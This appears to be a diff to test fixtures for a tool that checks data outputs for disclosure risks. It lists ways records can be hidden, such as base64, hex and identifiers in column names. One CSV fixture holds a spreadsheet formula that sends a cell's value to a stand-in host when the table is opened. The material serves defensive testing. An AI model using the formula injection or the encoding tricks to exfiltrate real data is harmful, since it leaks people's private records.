@@ -117,7 +117,7 @@ def _carriers() -> tuple[Carrier, ...]:
         Carrier("records in base64", "t.txt", base64.b64encode(table.encode()), _RECORDS),
         Carrier("records in hexadecimal", "t.txt", table.encode().hex().encode(), _RECORDS),
         Carrier("records packed and in base64", "t.txt", base64.b64encode(gzip.compress(table.encode())), _RECORDS),
-        Carrier("identifiers in the names of columns", "t.csv", (",".join(source()["person"].to_pylist()[40:52]) + "\n" + ",".join(["700"] * 12)).encode(), _ANY_RECORD),
+        Carrier("identifiers in the names of columns", "t.csv", (",".join(source()["person"].to_pylist()[40:52]) + "\n" + ",".join(["700"] * 12)).encode(), (*_ANY_RECORD, "header.header_findings")),
         Carrier("a small cell", "t.csv", b"area,claims\narea 1,50\narea 2,3\n", ("cells.cells_below", "differencing.linked_in")),
         Carrier("the largest value of all", "t.csv", b"measure,value\nmax cost,1009871\nmean cost,501234\n", ("extremes.single_values",)),
         Carrier("a formula for whoever opens the table", "t.csv", b"area,claims\n\"=HYPERLINK(\"\"http://x/\"\"&A1)\",50\narea 2,60\n", ("tables.formulas",)),
